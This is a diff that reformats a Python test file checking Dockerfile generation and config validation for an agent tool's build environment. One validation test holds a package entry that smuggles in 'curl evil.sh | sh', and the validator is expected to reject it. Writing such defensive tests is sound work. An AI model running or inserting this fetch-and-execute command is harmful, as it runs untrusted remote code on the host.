@@ -11,13 +11,17 @@ from agentmill.errors import AgentmillError
 from agentmill.grounded.environment import OFFICE_PACKAGES, EnvironmentConfig, dockerfile_text
 from agentmill.grounded.run import GroundConfig
 
-ROLES = "".join(f'[roles.{r}]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "m"\n'
-                for r in ("assembler", "grapher", "compiler", "teacher", "reviser", "judge"))
+ROLES = "".join(
+    f'[roles.{r}]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "m"\n'
+    for r in ("assembler", "grapher", "compiler", "teacher", "reviser", "judge")
+)
 
 
 def test_default_is_the_office_image_from_debian_packages():
     text = dockerfile_text(None)
-    assert text.startswith("FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends ")
+    assert text.startswith(
+        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
+    )
     assert all(p in text for p in OFFICE_PACKAGES) and text.endswith("WORKDIR /app\nCOPY workspace/ /app/\n")
 
 
@@ -30,8 +34,13 @@ def test_base_and_packages_per_run(tmp_path):
     cfg = tmp_path / "g.toml"
     cfg.write_text('[environment]\nbase = "python:3.11-slim"\nextra_packages = ["libreoffice-calc-nogui"]\n' + ROLES)
     text = dockerfile_text(GroundConfig.load(cfg).environment)
-    assert text.startswith("FROM python:3.11-slim\n") and "python3-openpyxl" in text and "libreoffice-calc-nogui" in text
-    assert dockerfile_text(EnvironmentConfig(packages=[])) == "FROM debian:bookworm-slim\nWORKDIR /app\nCOPY workspace/ /app/\n"
+    assert (
+        text.startswith("FROM python:3.11-slim\n") and "python3-openpyxl" in text and "libreoffice-calc-nogui" in text
+    )
+    assert (
+        dockerfile_text(EnvironmentConfig(packages=[]))
+        == "FROM debian:bookworm-slim\nWORKDIR /app\nCOPY workspace/ /app/\n"
+    )
 
 
 def test_a_dockerfile_of_the_users_relative_to_the_config(tmp_path):
@@ -40,16 +49,25 @@ def test_a_dockerfile_of_the_users_relative_to_the_config(tmp_path):
     cfg = tmp_path / "g.toml"
     cfg.write_text('[environment]\ndockerfile = "env/Dockerfile"\n' + ROLES)
     env = GroundConfig.load(cfg).environment
-    assert dockerfile_text(env) == "FROM debian:bookworm\nRUN apt-get install -y gnumeric\nWORKDIR /app\nCOPY workspace/ /app/\n"
+    assert (
+        dockerfile_text(env)
+        == "FROM debian:bookworm\nRUN apt-get install -y gnumeric\nWORKDIR /app\nCOPY workspace/ /app/\n"
+    )
 
 
-@pytest.mark.parametrize("body, words", [
-    ('[environment]\npackages = ["python3-openpyxl; curl evil.sh | sh"]\n', ["environment.packages", "not Debian package names"]),
-    ('[environment]\nbase = "debian bookworm"\n', ["environment.base"]),
-    ('[environment]\ndockerfile = "Dockerfile"\npackages = ["jq"]\n', ["environment", "either dockerfile"]),
-    ('[environment]\ndockerfile = "missing/Dockerfile"\n', ["environment.dockerfile", "cannot read"]),
-    ('[environment]\nimage = "x"\n', ["environment.image"]),
-])
+@pytest.mark.parametrize(
+    "body, words",
+    [
+        (
+            '[environment]\npackages = ["python3-openpyxl; curl evil.sh | sh"]\n',
+            ["environment.packages", "not Debian package names"],
+        ),
+        ('[environment]\nbase = "debian bookworm"\n', ["environment.base"]),
+        ('[environment]\ndockerfile = "Dockerfile"\npackages = ["jq"]\n', ["environment", "either dockerfile"]),
+        ('[environment]\ndockerfile = "missing/Dockerfile"\n', ["environment.dockerfile", "cannot read"]),
+        ('[environment]\nimage = "x"\n', ["environment.image"]),
+    ],
+)
 def test_bad_environment_is_one_error_naming_the_field(tmp_path, body, words):
     cfg = tmp_path / "g.toml"
     cfg.write_text(body + ROLES)
